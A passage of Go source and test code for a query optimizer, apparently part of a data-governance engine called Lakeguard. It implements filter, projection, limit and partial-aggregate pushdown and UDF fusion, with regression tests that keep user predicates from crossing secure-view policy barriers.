			R:          eqStr(ref(7, "region", types.KindString), "EU"), // right side
			ResultKind: types.KindBool},
		Child: j,
	}
	out := Optimize(f, Options{PushFilters: true})
	join, ok := out.(*plan.Join)
	if !ok {
		t.Fatalf("root = %T", out)
	}
	lscan, lok := join.L.(*plan.Scan)
	rscan, rok := join.R.(*plan.Scan)
	if !lok || !rok {
		t.Fatalf("children not scans:\n%s", plan.Explain(out))
	}
	if len(lscan.PushedFilters) != 1 || !strings.Contains(lscan.PushedFilters[0].String(), "US") {
		t.Errorf("left pushed = %v", lscan.PushedFilters)
	}
	// Right-side ref 7 remaps to local ordinal 3.
	if len(rscan.PushedFilters) != 1 || !strings.Contains(rscan.PushedFilters[0].String(), "region#3") {
		t.Errorf("right pushed = %v", rscan.PushedFilters)
	}
}

func TestSecureViewBlocksPushdown(t *testing.T) {
	sv := &plan.SecureView{Name: "main.default.sales", PolicyKinds: []string{"column_mask"}, Child: salesScan()}
	f := &plan.Filter{Cond: eqStr(ref(2, "seller", types.KindString), "ann"), Child: sv}
	out := Optimize(f, DefaultOptions())
	// The filter must remain above the SecureView; the scan stays clean.
	root, ok := out.(*plan.Filter)
	if !ok {
		t.Fatalf("filter moved through SecureView:\n%s", plan.Explain(out))
	}
	if _, ok := root.Child.(*plan.SecureView); !ok {
		t.Fatalf("SecureView displaced:\n%s", plan.Explain(out))
	}
	plan.Walk(out, func(n plan.Node) bool {
		if sc, ok := n.(*plan.Scan); ok && len(sc.PushedFilters) > 0 {
			t.Errorf("filter leaked through barrier: %v", sc.PushedFilters)
		}
		return true
	})
}

func remoteScan() *plan.RemoteScan {
	return &plan.RemoteScan{
		Relation: "main.default.sales",
		OutSchema: types.NewSchema(
			types.Field{Name: "amount", Kind: types.KindFloat64},
			types.Field{Name: "date", Kind: types.KindString},
			types.Field{Name: "seller", Kind: types.KindString},
			types.Field{Name: "region", Kind: types.KindString},
		),
		PushedLimit: -1,
	}
}

func TestRemoteFilterPushdown(t *testing.T) {
	f := &plan.Filter{Cond: eqStr(ref(1, "date", types.KindString), "2024-12-01"), Child: remoteScan()}
	out := Optimize(f, Options{PushIntoRemote: true})
	rs, ok := out.(*plan.RemoteScan)
	if !ok {
		t.Fatalf("root = %T", out)
	}
	if len(rs.PushedFilters) != 1 {
		t.Fatalf("pushed = %v", rs.PushedFilters)
	}
	// Pushed filters are name-based for remote re-resolution.
	if rs.PushedFilters[0].String() != "(date = '2024-12-01')" {
		t.Errorf("pushed filter = %s", rs.PushedFilters[0].String())
	}
}

func TestRemoteProjectionPushdown(t *testing.T) {
	p := &plan.Project{
		Exprs:     []plan.Expr{ref(0, "amount", types.KindFloat64), ref(2, "seller", types.KindString)},
		Child:     remoteScan(),
		OutSchema: types.NewSchema(types.Field{Name: "amount", Kind: types.KindFloat64}, types.Field{Name: "seller", Kind: types.KindString}),
	}
	out := Optimize(p, Options{PruneColumns: true})
	proj := out.(*plan.Project)
	rs := proj.Child.(*plan.RemoteScan)
	if len(rs.PushedProjection) != 2 || rs.PushedProjection[0] != "amount" || rs.PushedProjection[1] != "seller" {
		t.Fatalf("projection = %v", rs.PushedProjection)
	}
	// Refs remapped to the narrowed schema.
	if proj.Exprs[1].(*plan.BoundRef).Index != 1 {
		t.Errorf("ref not remapped: %s", proj.Exprs[1].String())
	}
}

func TestScanColumnPruning(t *testing.T) {
	p := &plan.Project{
		Exprs:     []plan.Expr{ref(2, "seller", types.KindString)},
		Child:     &plan.Filter{Cond: eqStr(ref(3, "region", types.KindString), "US"), Child: salesScan()},
		OutSchema: types.NewSchema(types.Field{Name: "seller", Kind: types.KindString}),
	}
	out := Optimize(p, Options{PruneColumns: true})
	var sc *plan.Scan
	plan.Walk(out, func(n plan.Node) bool {
		if s, ok := n.(*plan.Scan); ok {
			sc = s
		}
		return true
	})
	if sc == nil || len(sc.ProjectedCols) != 2 {
		t.Fatalf("scan cols = %v\n%s", sc.ProjectedCols, plan.Explain(out))
	}
	// seller(2) and region(3) kept; new ordinals 0,1.
	if sc.ProjectedCols[0] != 2 || sc.ProjectedCols[1] != 3 {
		t.Errorf("projected = %v", sc.ProjectedCols)
	}
	if out.(*plan.Project).Exprs[0].(*plan.BoundRef).Index != 0 {
		t.Error("project ref not remapped")
	}
}

func TestRemotePartialAggregatePushdown(t *testing.T) {
	agg := &plan.Aggregate{
		GroupBy: []plan.Expr{ref(3, "region", types.KindString)},
		Aggs: []plan.Expr{
			&plan.AggFunc{Name: "sum", Arg: ref(0, "amount", types.KindFloat64), ResultKind: types.KindFloat64},
			&plan.AggFunc{Name: "count", ResultKind: types.KindInt64},
		},
		Child: remoteScan(),
		OutSchema: types.NewSchema(
			types.Field{Name: "region", Kind: types.KindString},
			types.Field{Name: "SUM(amount#0)", Kind: types.KindFloat64},
			types.Field{Name: "COUNT(*)", Kind: types.KindInt64},
		),
	}
	out := Optimize(agg, Options{PushIntoRemote: true})
	top, ok := out.(*plan.Aggregate)
	if !ok {
		t.Fatalf("root = %T", out)
	}
	rs, ok := top.Child.(*plan.RemoteScan)
	if !ok || rs.PushedAggregate == nil {
		t.Fatalf("no pushed aggregate:\n%s", plan.Explain(out))
	}
	if rs.PushedAggregate.GroupBy[0] != "region" {
		t.Errorf("group = %v", rs.PushedAggregate.GroupBy)
	}
	if !strings.Contains(rs.PushedAggregate.Aggs[0], "SUM(amount)") {
		t.Errorf("aggs = %v", rs.PushedAggregate.Aggs)
	}
	// Local COUNT partial recombines via SUM.
	if top.Aggs[1].(*plan.AggFunc).Name != "sum" {
		t.Errorf("count should recombine as sum, got %s", top.Aggs[1].String())
	}
	// AVG stays local.
	avgAgg := &plan.Aggregate{
		GroupBy:   []plan.Expr{ref(3, "region", types.KindString)},
		Aggs:      []plan.Expr{&plan.AggFunc{Name: "avg", Arg: ref(0, "amount", types.KindFloat64), ResultKind: types.KindFloat64}},
		Child:     remoteScan(),
		OutSchema: types.NewSchema(types.Field{Name: "region", Kind: types.KindString}, types.Field{Name: "avg", Kind: types.KindFloat64}),
	}
	out2 := Optimize(avgAgg, Options{PushIntoRemote: true})
	if rs2, ok := out2.(*plan.Aggregate).Child.(*plan.RemoteScan); !ok || rs2.PushedAggregate != nil {
		t.Error("AVG must not push down")
	}
}

func TestRemoteLimitPushdown(t *testing.T) {
	l := &plan.Limit{N: 10, Child: remoteScan()}
	out := Optimize(l, Options{PushIntoRemote: true})
	lim := out.(*plan.Limit)
	rs := lim.Child.(*plan.RemoteScan)
	if rs.PushedLimit != 10 {
		t.Errorf("pushed limit = %d", rs.PushedLimit)
	}
}

func TestPlanUDFsFusion(t *testing.T) {
	mkCall := func(name, owner string) *plan.UDFCall {
		return &plan.UDFCall{
			Name: name, Owner: owner, Body: "return x",
			ArgNames: []string{"x"}, Args: []plan.Expr{ref(0, "a", types.KindInt64)},
			ResultKind: types.KindInt64,
		}
	}
	exprs := []plan.Expr{mkCall("f1", "alice"), mkCall("f2", "alice"), mkCall("g1", "bob")}
	p, err := PlanUDFs(exprs, 4, true)
	if err != nil {
		t.Fatal(err)
	}
	if p.TotalCalls != 3 || len(p.Waves) != 1 {
		t.Fatalf("plan = %+v", p)
	}
	if len(p.Waves[0]) != 2 {
		t.Fatalf("fusion groups = %d, want 2 (trust-domain barrier)", len(p.Waves[0]))
	}
	for _, g := range p.Waves[0] {
		for _, c := range g.Calls {
			if c.Call.Owner != g.TrustDomain {
				t.Error("call in wrong trust domain group")
			}
		}
	}
	// All exprs replaced by refs to appended columns 4..6.
	for i, e := range p.Exprs {
		b, ok := e.(*plan.BoundRef)
		if !ok || b.Index != 4+i {
			t.Errorf("expr %d = %s", i, e.String())
		}
	}
	// Without fusion: 3 singleton groups.
	p2, _ := PlanUDFs(exprs, 4, false)
	if len(p2.Waves[0]) != 3 {
		t.Errorf("no-fusion groups = %d", len(p2.Waves[0]))
	}
}

func TestPlanUDFsNestedWaves(t *testing.T) {
	inner := &plan.UDFCall{
		Name: "inner", Owner: "alice", Body: "return x + 1",
		ArgNames: []string{"x"}, Args: []plan.Expr{ref(0, "a", types.KindInt64)},
		ResultKind: types.KindInt64,
	}
	outer := &plan.UDFCall{
		Name: "outer", Owner: "alice", Body: "return x * 2",
		ArgNames: []string{"x"}, Args: []plan.Expr{inner},
		ResultKind: types.KindInt64,
	}
	p, err := PlanUDFs([]plan.Expr{outer}, 1, true)
	if err != nil {
		t.Fatal(err)
	}
	if len(p.Waves) != 2 || p.TotalCalls != 2 {
		t.Fatalf("waves = %d calls = %d", len(p.Waves), p.TotalCalls)
	}
	// Wave 2's call consumes wave 1's output column.
	w2call := p.Waves[1][0].Calls[0]
	argRef, ok := w2call.Call.Args[0].(*plan.BoundRef)
	if !ok || argRef.Index != 1 {
		t.Errorf("outer arg = %s", w2call.Call.Args[0].String())
	}
	if p.Width != 3 {
		t.Errorf("width = %d", p.Width)
	}
}

func TestPlanUDFsNoUDFs(t *testing.T) {
	p, err := PlanUDFs([]plan.Expr{ref(0, "a", types.KindInt64)}, 1, true)
	if err != nil {
		t.Fatal(err)
	}
	if p.HasUDFs() || len(p.Waves) != 0 {
		t.Error("phantom UDFs")
	}
}

func TestStripAliases(t *testing.T) {
	p := &plan.SubqueryAlias{Name: "t", Child: salesScan()}
	out := Optimize(p, Options{})
	if _, ok := out.(*plan.Scan); !ok {
		t.Errorf("alias not stripped: %T", out)
	}
}

func TestOptimizeDoesNotMutateInput(t *testing.T) {
	f := &plan.Filter{Cond: eqStr(ref(3, "region", types.KindString), "US"), Child: salesScan()}
	before := plan.Explain(f)
	_ = Optimize(f, DefaultOptions())
	if plan.Explain(f) != before {
		t.Error("input plan mutated")
	}
}
