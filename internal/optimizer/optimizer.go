// Package optimizer implements the rule-based plan rewrites Lakeguard
// depends on: constant folding, filter pushdown (halting at SecureView
// barriers so policy-relative semantics are preserved), column pruning into
// scans, pushdown of filters / projections / limits / partial aggregations
// into RemoteScan leaves (the eFGAC refinements of paper §3.4), and the
// grouping of UDF calls into fused sandbox requests with trust domains as
// fusion barriers (§3.3).
package optimizer

import (
	"context"
	"fmt"

	"lakeguard/internal/eval"
	"lakeguard/internal/plan"
	"lakeguard/internal/telemetry"
	"lakeguard/internal/types"
)

// Options toggles individual rules (ablation benchmarks flip these).
type Options struct {
	// FoldConstants evaluates literal-only subexpressions at plan time.
	FoldConstants bool
	// PushFilters moves filter conjuncts toward scans.
	PushFilters bool
	// PruneColumns narrows scans to referenced columns.
	PruneColumns bool
	// PushIntoRemote refines RemoteScan leaves with filters, projections,
	// limits, and partial aggregations.
	PushIntoRemote bool
	// FuseUDFs groups UDF calls of one trust domain into single sandbox
	// crossings (see PlanUDFGroups).
	FuseUDFs bool
	// ExtraRules run after the built-in rules, in order. They exist so tests
	// can register deliberately broken rewrites and prove the sentinel
	// catches them; production configurations leave this nil.
	ExtraRules []Rule
}

// Rule is a whole-plan rewrite.
type Rule func(plan.Node) plan.Node

// DefaultOptions enables every rule.
func DefaultOptions() Options {
	return Options{
		FoldConstants:  true,
		PushFilters:    true,
		PruneColumns:   true,
		PushIntoRemote: true,
		FuseUDFs:       true,
	}
}

// OptimizeCtx is Optimize under a telemetry span: the optimizer is the layer
// most likely to move policy operators around, so its phase is always
// distinguishable from analysis and verification in a trace.
func OptimizeCtx(ctx context.Context, n plan.Node, opts Options) plan.Node {
	_, sp := telemetry.StartSpan(ctx, "optimizer.optimize")
	out := Optimize(n, opts)
	sp.End()
	return out
}

// Optimize rewrites an analyzed plan. The input is not mutated.
func Optimize(n plan.Node, opts Options) plan.Node {
	n = stripAliases(n)
	if opts.FoldConstants {
		n = foldConstants(n)
	}
	if opts.PushFilters {
		n = pushFilters(n)
	}
	if opts.PushIntoRemote {
		n = pushIntoRemote(n)
	}
	if opts.PruneColumns {
		n = pruneColumns(n)
	}
	for _, r := range opts.ExtraRules {
		n = r(n)
	}
	return n
}

// stripAliases removes SubqueryAlias nodes; after analysis all references
// are bound by ordinal, so aliases are pure metadata.
func stripAliases(n plan.Node) plan.Node {
	return plan.Transform(n, func(x plan.Node) plan.Node {
		if sa, ok := x.(*plan.SubqueryAlias); ok {
			return sa.Child
		}
		return x
	})
}

// foldConstants replaces constant subexpressions with literals across all
// operator expressions.
func foldConstants(n plan.Node) plan.Node {
	return plan.Transform(n, func(x plan.Node) plan.Node {
		switch t := x.(type) {
		case *plan.Filter:
			return &plan.Filter{Cond: foldExpr(t.Cond), Child: t.Child}
		case *plan.Project:
			exprs := make([]plan.Expr, len(t.Exprs))
			for i, e := range t.Exprs {
				exprs[i] = foldExpr(e)
			}
			return &plan.Project{Exprs: exprs, Child: t.Child, OutSchema: t.OutSchema}
		case *plan.Join:
			if t.Cond == nil {
				return t
			}
			return &plan.Join{Type: t.Type, Cond: foldExpr(t.Cond), L: t.L, R: t.R}
		}
		return x
	})
}

func foldExpr(e plan.Expr) plan.Expr {
	return plan.TransformExpr(e, func(x plan.Expr) plan.Expr {
		switch x.(type) {
		case *plan.Literal, *plan.BoundRef, *plan.Alias:
			return x
		}
		if !eval.IsConstant(x) {
			return x
		}
		v, err := eval.Eval(x, nil, nil)
		if err != nil {
			return x // leave runtime errors to execution
		}
		return plan.Lit(v)
	})
}

// splitConjuncts flattens an AND tree.
func splitConjuncts(e plan.Expr) []plan.Expr {
	if b, ok := e.(*plan.Binary); ok && b.Op == plan.OpAnd {
		return append(splitConjuncts(b.L), splitConjuncts(b.R)...)
	}
	return []plan.Expr{e}
}

// joinConjuncts rebuilds an AND tree (nil for empty input).
func joinConjuncts(cs []plan.Expr) plan.Expr {
	if len(cs) == 0 {
		return nil
	}
	out := cs[0]
	for _, c := range cs[1:] {
		out = &plan.Binary{Op: plan.OpAnd, L: out, R: c, ResultKind: types.KindBool}
	}
	return out
}

// maxRefIndex returns the largest BoundRef ordinal in e, or -1.
func maxRefIndex(e plan.Expr) int {
	idx := -1
	plan.WalkExpr(e, func(x plan.Expr) bool {
		if b, ok := x.(*plan.BoundRef); ok && b.Index > idx {
			idx = b.Index
		}
		return true
	})
	return idx
}

// minRefIndex returns the smallest BoundRef ordinal in e, or -1 when none.
func minRefIndex(e plan.Expr) int {
	idx := -1
	plan.WalkExpr(e, func(x plan.Expr) bool {
		if b, ok := x.(*plan.BoundRef); ok && (idx == -1 || b.Index < idx) {
			idx = b.Index
		}
		return true
	})
	return idx
}

// shiftRefs returns e with every BoundRef ordinal shifted by delta.
func shiftRefs(e plan.Expr, delta int) plan.Expr {
	return plan.TransformExpr(e, func(x plan.Expr) plan.Expr {
		if b, ok := x.(*plan.BoundRef); ok {
			return &plan.BoundRef{Index: b.Index + delta, Name: b.Name, Kind: b.Kind}
		}
		return x
	})
}

// containsUDF reports whether an expression crosses the sandbox.
func containsUDF(e plan.Expr) bool {
	return plan.ExprContains(e, func(x plan.Expr) bool {
		_, ok := x.(*plan.UDFCall)
		return ok
	})
}

// pushFilters pushes filter conjuncts toward leaves. SecureView is a hard
// barrier: user predicates must evaluate on policy-transformed (masked)
// output, never on raw data, so nothing moves through it.
func pushFilters(n plan.Node) plan.Node {
	return plan.Transform(n, func(x plan.Node) plan.Node {
		f, ok := x.(*plan.Filter)
		if !ok {
			return x
		}
		return pushFilterOnce(f)
	})
}

func pushFilterOnce(f *plan.Filter) plan.Node {
	conjuncts := splitConjuncts(f.Cond)
	switch child := f.Child.(type) {
	case *plan.Filter:
		merged := joinConjuncts(append(conjuncts, splitConjuncts(child.Cond)...))
		return pushFilterOnce(&plan.Filter{Cond: merged, Child: child.Child})

	case *plan.Project:
		// Push conjuncts whose referenced projection items are pass-through
		// column refs (no recomputation, no UDF duplication).
		var pushed, kept []plan.Expr
		for _, c := range conjuncts {
			rewritten, ok := substituteThroughProject(c, child.Exprs)
			if ok {
				pushed = append(pushed, rewritten)
			} else {
				kept = append(kept, c)
			}
		}
		if len(pushed) == 0 {
			return f
		}
		inner := pushFilterOnce(&plan.Filter{Cond: joinConjuncts(pushed), Child: child.Child})
		newProj := &plan.Project{Exprs: child.Exprs, Child: inner, OutSchema: child.OutSchema}
		if len(kept) == 0 {
			return newProj
		}
		return &plan.Filter{Cond: joinConjuncts(kept), Child: newProj}

	case *plan.Join:
		if child.Type != plan.JoinInner && child.Type != plan.JoinCross {
			return f
		}
		leftLen := child.L.Schema().Len()
		var leftC, rightC, kept []plan.Expr
		for _, c := range conjuncts {
			lo, hi := minRefIndex(c), maxRefIndex(c)
			switch {
			case hi < leftLen && lo >= 0:
				leftC = append(leftC, c)
			case lo >= leftLen:
				rightC = append(rightC, shiftRefs(c, -leftLen))
			default:
				kept = append(kept, c)
			}
		}
		if len(leftC) == 0 && len(rightC) == 0 {
			return f
		}
		l, r := child.L, child.R
		if len(leftC) > 0 {
			l = pushFilterOnce(&plan.Filter{Cond: joinConjuncts(leftC), Child: l})
		}
		if len(rightC) > 0 {
			r = pushFilterOnce(&plan.Filter{Cond: joinConjuncts(rightC), Child: r})
		}
		j := &plan.Join{Type: child.Type, Cond: child.Cond, L: l, R: r}
		if len(kept) == 0 {
			return j
		}
		return &plan.Filter{Cond: joinConjuncts(kept), Child: j}

	case *plan.Union:
		l := pushFilterOnce(&plan.Filter{Cond: f.Cond, Child: child.L})
		r := pushFilterOnce(&plan.Filter{Cond: f.Cond, Child: child.R})
		return &plan.Union{L: l, R: r}

	case *plan.Scan:
		var pushable, kept []plan.Expr
		for _, c := range conjuncts {
			if containsUDF(c) {
				kept = append(kept, c)
			} else {
				pushable = append(pushable, c)
			}
		}
		if len(pushable) == 0 {
			return f
		}
		sc := *child
		sc.PushedFilters = append(append([]plan.Expr{}, sc.PushedFilters...), pushable...)
		if len(kept) == 0 {
			return &sc
		}
		return &plan.Filter{Cond: joinConjuncts(kept), Child: &sc}
	}
	return f
}

// substituteThroughProject rewrites a conjunct over a projection's output to
// one over its input, succeeding only when every referenced item is itself a
// plain column reference.
func substituteThroughProject(c plan.Expr, items []plan.Expr) (plan.Expr, bool) {
	ok := true
	out := plan.TransformExpr(c, func(x plan.Expr) plan.Expr {
		b, isRef := x.(*plan.BoundRef)
		if !isRef {
			return x
		}
		if b.Index >= len(items) {
			ok = false
			return x
		}
		item := items[b.Index]
		if a, isAlias := item.(*plan.Alias); isAlias {
			item = a.Child
		}
		if inner, isRef := item.(*plan.BoundRef); isRef {
			return inner
		}
		ok = false
		return x
	})
	return out, ok
}

// refToName converts a bound conjunct back to name-based form for remote
// re-resolution. Fails (ok=false) if any ref has an empty name.
func refToName(e plan.Expr) (plan.Expr, bool) {
	ok := true
	out := plan.TransformExpr(e, func(x plan.Expr) plan.Expr {
		if b, isRef := x.(*plan.BoundRef); isRef {
			if b.Name == "" {
				ok = false
				return x
			}
			return &plan.ColumnRef{Name: b.Name}
		}
		return x
	})
	return out, ok
}

// pushIntoRemote refines RemoteScan leaves: filters, then limits, then
// partial aggregations, exactly the refinements §3.4 pushes into the remote
// subquery.
func pushIntoRemote(n plan.Node) plan.Node {
	n = plan.Transform(n, func(x plan.Node) plan.Node {
		switch t := x.(type) {
		case *plan.Filter:
			rs, ok := t.Child.(*plan.RemoteScan)
			if !ok {
				return x
			}
			var pushed []plan.Expr
			var kept []plan.Expr
			for _, c := range splitConjuncts(t.Cond) {
				if containsUDF(c) {
					kept = append(kept, c)
					continue
				}
				named, ok := refToName(c)
				if !ok {
					kept = append(kept, c)
					continue
				}
				pushed = append(pushed, named)
			}
			if len(pushed) == 0 {
				return x
			}
			nrs := *rs
			nrs.PushedFilters = append(append([]plan.Expr{}, nrs.PushedFilters...), pushed...)
			if len(kept) == 0 {
				return &nrs
			}
			return &plan.Filter{Cond: joinConjuncts(kept), Child: &nrs}

		case *plan.Limit:
			rs, ok := t.Child.(*plan.RemoteScan)
			if !ok || t.Offset != 0 || rs.PushedAggregate != nil {
				return x
			}
			nrs := *rs
			nrs.PushedLimit = t.N
			// Keep the local limit for exactness; remote limit bounds transfer.
			return &plan.Limit{N: t.N, Offset: 0, Child: &nrs}

		case *plan.Aggregate:
			return pushPartialAggregate(t)
		}
		return x
	})
	return n
}

// pushPartialAggregate ships an aggregation into the RemoteScan and keeps a
// local re-aggregation over the partial results, so spilled/partitioned
// remote results still combine correctly:
//
//	SUM   -> remote SUM,  local SUM
//	COUNT -> remote COUNT, local SUM
//	MIN   -> remote MIN,  local MIN
//	MAX   -> remote MAX,  local MAX
//
// AVG and DISTINCT aggregates are not decomposable this way and stay local.
func pushPartialAggregate(agg *plan.Aggregate) plan.Node {
	rs, ok := agg.Child.(*plan.RemoteScan)
	if !ok || rs.PushedAggregate != nil || rs.PushedLimit >= 0 {
		return agg
	}
	var groupNames []string
	for _, g := range agg.GroupBy {
		b, ok := g.(*plan.BoundRef)
		if !ok || b.Name == "" {
			return agg
		}
		groupNames = append(groupNames, b.Name)
	}
	var remoteAggs []string
	var localAggs []plan.Expr
	newSchema := &types.Schema{}
	for i, g := range agg.GroupBy {
		newSchema.Fields = append(newSchema.Fields, types.Field{
			Name: groupNames[i], Kind: g.Type(), Nullable: true,
		})
	}
	for ai, e := range agg.Aggs {
		af, ok := e.(*plan.AggFunc)
		if !ok || af.Distinct || af.Name == "avg" {
			return agg
		}
		var argName string
		if af.Arg != nil {
			b, ok := af.Arg.(*plan.BoundRef)
			if !ok || b.Name == "" {
				return agg
			}
			argName = b.Name
		}
		outName := fmt.Sprintf("__partial%d", ai)
		switch af.Name {
		case "sum":
			remoteAggs = append(remoteAggs, fmt.Sprintf("SUM(%s) AS %s", argName, outName))
		case "count":
			if argName == "" {
				remoteAggs = append(remoteAggs, fmt.Sprintf("COUNT(*) AS %s", outName))
			} else {
				remoteAggs = append(remoteAggs, fmt.Sprintf("COUNT(%s) AS %s", argName, outName))
			}
		case "min":
			remoteAggs = append(remoteAggs, fmt.Sprintf("MIN(%s) AS %s", argName, outName))
		case "max":
			remoteAggs = append(remoteAggs, fmt.Sprintf("MAX(%s) AS %s", argName, outName))
		default:
			return agg
		}
		partialKind := af.ResultKind
		slot := len(agg.GroupBy) + ai
		ref := &plan.BoundRef{Index: slot, Name: outName, Kind: partialKind}
		combineName := af.Name
		if af.Name == "count" {
			combineName = "sum" // counts combine by summation
		}
		localAggs = append(localAggs, &plan.AggFunc{Name: combineName, Arg: ref, ResultKind: af.ResultKind})
		newSchema.Fields = append(newSchema.Fields, types.Field{Name: outName, Kind: partialKind, Nullable: true})
	}

	nrs := *rs
	nrs.PushedAggregate = &plan.RemoteAggregate{GroupBy: groupNames, Aggs: remoteAggs}
	nrs.OutSchema = newSchema

	// Local group-by over the remote group columns (same ordinals 0..k-1).
	localGroups := make([]plan.Expr, len(agg.GroupBy))
	for i, g := range agg.GroupBy {
		localGroups[i] = &plan.BoundRef{Index: i, Name: groupNames[i], Kind: g.Type()}
	}
	return &plan.Aggregate{
		GroupBy:   localGroups,
		Aggs:      localAggs,
		Child:     &nrs,
		OutSchema: agg.OutSchema,
	}
}
