package optimizer

import (
	"sort"

	"lakeguard/internal/plan"
)

// pruneColumns narrows Scan and RemoteScan leaves to the columns actually
// referenced above them, descending through intervening filters. For remote
// scans this becomes the pushed projection of the eFGAC subquery.
func pruneColumns(n plan.Node) plan.Node {
	return plan.Transform(n, func(x plan.Node) plan.Node {
		switch t := x.(type) {
		case *plan.Project:
			used := map[int]bool{}
			collectRefs(t.Exprs, used)
			child, remap := tryPrune(t.Child, used)
			if remap == nil {
				return x
			}
			return &plan.Project{Exprs: remapExprs(t.Exprs, remap), Child: child, OutSchema: t.OutSchema}
		case *plan.Aggregate:
			used := map[int]bool{}
			collectRefs(t.GroupBy, used)
			collectRefs(t.Aggs, used)
			child, remap := tryPrune(t.Child, used)
			if remap == nil {
				return x
			}
			return &plan.Aggregate{
				GroupBy:   remapExprs(t.GroupBy, remap),
				Aggs:      remapExprs(t.Aggs, remap),
				Child:     child,
				OutSchema: t.OutSchema,
			}
		}
		return x
	})
}

func collectRefs(exprs []plan.Expr, used map[int]bool) {
	for _, e := range exprs {
		plan.WalkExpr(e, func(x plan.Expr) bool {
			if b, ok := x.(*plan.BoundRef); ok {
				used[b.Index] = true
			}
			return true
		})
	}
}

func remapExprs(exprs []plan.Expr, remap map[int]int) []plan.Expr {
	out := make([]plan.Expr, len(exprs))
	for i, e := range exprs {
		out[i] = plan.TransformExpr(e, func(x plan.Expr) plan.Expr {
			if b, ok := x.(*plan.BoundRef); ok {
				if ni, ok := remap[b.Index]; ok {
					return &plan.BoundRef{Index: ni, Name: b.Name, Kind: b.Kind}
				}
			}
			return x
		})
	}
	return out
}

// tryPrune descends through Filter nodes to a Scan or RemoteScan leaf and
// narrows it to the used columns, returning the rewritten subtree and the
// old→new ordinal mapping. A nil map means "no change".
func tryPrune(n plan.Node, used map[int]bool) (plan.Node, map[int]int) {
	switch t := n.(type) {
	case *plan.Filter:
		inner := map[int]bool{}
		for k := range used {
			inner[k] = true
		}
		collectRefs([]plan.Expr{t.Cond}, inner)
		child, remap := tryPrune(t.Child, inner)
		if remap == nil {
			return n, nil
		}
		cond := remapExprs([]plan.Expr{t.Cond}, remap)[0]
		return &plan.Filter{Cond: cond, Child: child}, remap

	case *plan.Scan:
		if t.ProjectedCols != nil {
			return n, nil
		}
		collectRefs(t.PushedFilters, used)
		total := t.TableSchema.Len()
		keep := sortedKeys(used, total)
		if len(keep) == total {
			return n, nil
		}
		remap := make(map[int]int, len(keep))
		for ni, oi := range keep {
			remap[oi] = ni
		}
		sc := *t
		sc.ProjectedCols = keep
		sc.PushedFilters = remapExprs(sc.PushedFilters, remap)
		return &sc, remap

	case *plan.RemoteScan:
		if t.PushedAggregate != nil || t.PushedProjection != nil {
			return n, nil
		}
		total := t.OutSchema.Len()
		keep := sortedKeys(used, total)
		if len(keep) == total {
			return n, nil
		}
		remap := make(map[int]int, len(keep))
		names := make([]string, len(keep))
		for ni, oi := range keep {
			remap[oi] = ni
			names[ni] = t.OutSchema.Fields[oi].Name
		}
		rs := *t
		rs.PushedProjection = names
		rs.OutSchema = t.OutSchema.Project(keep)
		// PushedFilters are name-based and re-resolved remotely against the
		// full relation, so they survive projection unchanged.
		return &rs, remap
	}
	return n, nil
}

// sortedKeys returns the used ordinals sorted ascending, clamped to the
// schema and never empty (a scan must produce row counts even for COUNT(*)).
func sortedKeys(used map[int]bool, total int) []int {
	var keep []int
	for k := range used {
		if k >= 0 && k < total {
			keep = append(keep, k)
		}
	}
	if len(keep) == 0 {
		keep = []int{0}
	}
	sort.Ints(keep)
	return keep
}
