package optimizer

import (
	"testing"

	"lakeguard/internal/plan"
	"lakeguard/internal/types"
)

// Regression tests for the "Queen's Guard" attack surface: rewrites that
// would move user code or drop policy columns across a security boundary.
// The sentinel would catch these after the fact; these tests pin that the
// optimizer never produces them in the first place.

// governedSalesBarrier mimics the analyzer's barrier for a row-filtered,
// seller-masked sales table.
func governedSalesBarrier() *plan.SecureView {
	sc := salesScan()
	rowFilter := &plan.Filter{Cond: eqStr(ref(3, "region", types.KindString), "US"), Child: sc}
	masks := &plan.Project{
		Exprs: []plan.Expr{
			ref(0, "amount", types.KindFloat64),
			ref(1, "date", types.KindString),
			plan.As(plan.Lit(types.String("***")), "seller"),
			ref(3, "region", types.KindString),
		},
		Child:     rowFilter,
		OutSchema: sc.TableSchema,
	}
	return &plan.SecureView{
		Name:        "main.default.sales",
		PolicyKinds: []string{"row_filter", "column_mask"},
		Child:       masks,
	}
}

func TestUDFFilterNotPushedBelowSecureView(t *testing.T) {
	udfPred := &plan.UDFCall{
		Name: "main.default.leak", Owner: "mallory",
		Args:       []plan.Expr{ref(2, "seller", types.KindString)},
		ResultKind: types.KindBool,
	}
	f := &plan.Filter{Cond: udfPred, Child: governedSalesBarrier()}
	out := Optimize(f, DefaultOptions())

	// The UDF predicate must still sit above the barrier: walking down from
	// the root we must meet the Filter before any SecureView.
	root, ok := out.(*plan.Filter)
	if !ok {
		t.Fatalf("UDF filter left the root: %T\n%s", out, plan.Explain(out))
	}
	if !plan.ExprContains(root.Cond, func(e plan.Expr) bool {
		u, isUDF := e.(*plan.UDFCall)
		return isUDF && u.Owner == "mallory"
	}) {
		t.Fatalf("root filter lost the UDF predicate:\n%s", plan.Explain(out))
	}
	// And nothing below the barrier may contain it.
	var sv *plan.SecureView
	plan.Walk(out, func(n plan.Node) bool {
		if s, isSV := n.(*plan.SecureView); isSV {
			sv = s
		}
		return true
	})
	if sv == nil {
		t.Fatalf("barrier vanished:\n%s", plan.Explain(out))
	}
	if plan.Contains(sv.Child, func(n plan.Node) bool {
		if fl, isF := n.(*plan.Filter); isF {
			return plan.ExprContains(fl.Cond, func(e plan.Expr) bool {
				_, isUDF := e.(*plan.UDFCall)
				return isUDF
			})
		}
		return false
	}) {
		t.Fatalf("UDF predicate was pushed below the secure-view barrier:\n%s", plan.Explain(out))
	}
}

func TestPlainFilterNotPushedIntoBarrier(t *testing.T) {
	// Even a UDF-free user predicate must stay outside the barrier: inside,
	// it would run against pre-mask values.
	f := &plan.Filter{Cond: eqStr(ref(2, "seller", types.KindString), "ann"), Child: governedSalesBarrier()}
	out := Optimize(f, DefaultOptions())
	var sv *plan.SecureView
	plan.Walk(out, func(n plan.Node) bool {
		if s, isSV := n.(*plan.SecureView); isSV {
			sv = s
		}
		return true
	})
	if sv == nil {
		t.Fatalf("barrier vanished:\n%s", plan.Explain(out))
	}
	if plan.Contains(sv.Child, func(n plan.Node) bool {
		if fl, isF := n.(*plan.Filter); isF {
			return plan.ExprContains(fl.Cond, func(e plan.Expr) bool {
				l, isLit := e.(*plan.Literal)
				return isLit && l.Value.S == "ann"
			})
		}
		if sc, isScan := n.(*plan.Scan); isScan {
			for _, pf := range sc.PushedFilters {
				if plan.ExprContains(pf, func(e plan.Expr) bool {
					l, isLit := e.(*plan.Literal)
					return isLit && l.Value.S == "ann"
				}) {
